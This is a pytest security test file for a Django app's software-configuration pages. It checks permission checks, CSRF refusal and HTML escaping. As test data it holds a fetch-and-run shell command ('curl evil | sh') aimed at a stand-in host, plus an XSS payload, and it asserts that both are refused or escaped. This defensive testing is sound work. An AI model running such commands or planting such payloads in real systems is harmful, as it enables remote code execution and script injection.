"""The /software/ pages change what render nodes run, so they are guarded like the admin.

Attacks: a project member without images.add_software / images.change_software (staff
flag or not) posts a new software or a changed command; a holder of add_software alone
edits an existing one; a cross-site form posts without the CSRF token; a software's
parameter names and help carry markup into the editors and the list. Each is refused or
shown as text.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.test import Client

from images.models import Software
from tests.images.test_editors import BLENDER, rows_post
from tests.images.test_pages import multi

pytestmark = pytest.mark.django_db

HOSTILE = "<img src=x onerror=alert(1)>"


def login(django_user_model: Any, name: str, *codenames: str, staff: bool = False) -> Client:
    user = django_user_model.objects.create_user(name, password=f"pw-{name}-1", is_staff=staff)
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("staff", [False, True])
def test_a_member_without_the_permissions_cannot_change_what_nodes_run(
    django_user_model: Any, project: Any, blender_software: Software, staff: bool
) -> None:
    client = login(django_user_model, "mallory", staff=staff)
    project.members.add(django_user_model.objects.get(username="mallory"))
    built_in = Software.objects.count()
    evil = rows_post(blender_software.image, ["sh", "-c", "curl evil | sh"], [], name="blender")
    assert client.post(f"/software/{blender_software.pk}/", multi(evil)).status_code == 403
    evil["name"] = "x"
    assert client.post("/software/new/", multi(evil)).status_code == 403
    blender_software.refresh_from_db()
    assert blender_software.command_template[0] == "blender"
    assert Software.objects.count() == built_in  # nothing new


def test_add_permission_alone_does_not_allow_editing(
    django_user_model: Any, blender_software: Software
) -> None:
    client = login(django_user_model, "adder", "add_software")
    evil = rows_post(blender_software.image, ["sh", "-c", "id"], [], name="blender")
    assert client.post(f"/software/{blender_software.pk}/", multi(evil)).status_code == 403
    blender_software.refresh_from_db()
    assert blender_software.command_template[0] == "blender"


def test_a_cross_site_post_is_refused(django_user_model: Any, blender_software: Software) -> None:
    user = django_user_model.objects.create_user("lead", password="pw-lead-1")
    user.user_permissions.add(*Permission.objects.filter(codename="add_software"))
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    data = rows_post(blender_software.image, BLENDER.command, BLENDER.parameters)
    assert client.post("/software/new/", multi(data)).status_code == 403
    assert not Software.objects.filter(name="blender-x").exists()


def test_markup_in_parameters_is_shown_as_text(
    django_user_model: Any, blender_software: Software
) -> None:
    blender_software.parameters = [
        {"name": "engine", "type": "choice", "choices": [HOSTILE], "help": HOSTILE}
    ]
    blender_software.command_template = ["blender", HOSTILE]
    blender_software.save()
    client = login(django_user_model, "lead", "add_software", "change_software")
    for url in ("/software/", f"/software/{blender_software.pk}/"):
        page = client.get(url).content.decode()
        assert HOSTILE not in page, url
    page = client.get(f"/software/{blender_software.pk}/").content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # the variables list, as text
